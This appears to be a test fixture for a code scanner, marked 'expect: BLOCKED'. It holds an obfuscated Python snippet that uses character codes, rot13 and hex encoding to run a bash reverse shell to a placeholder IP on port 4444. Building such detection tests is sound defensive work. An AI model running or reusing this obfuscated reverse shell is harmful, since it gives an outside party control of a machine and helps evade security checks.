# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/bash_dev_tcp.py technique: encode+getattr
os = __import__(''.join(map(chr, [111, 115])))
getattr(os, __import__('codecs').decode('flfgrz', 'rot13'))(getattr(bytes, 'xehmorf'[::-1])('62617368202d63202762617368202d69203e26202f6465762f7463702f3230332e302e3131332e352f3434343420303e263127').decode())
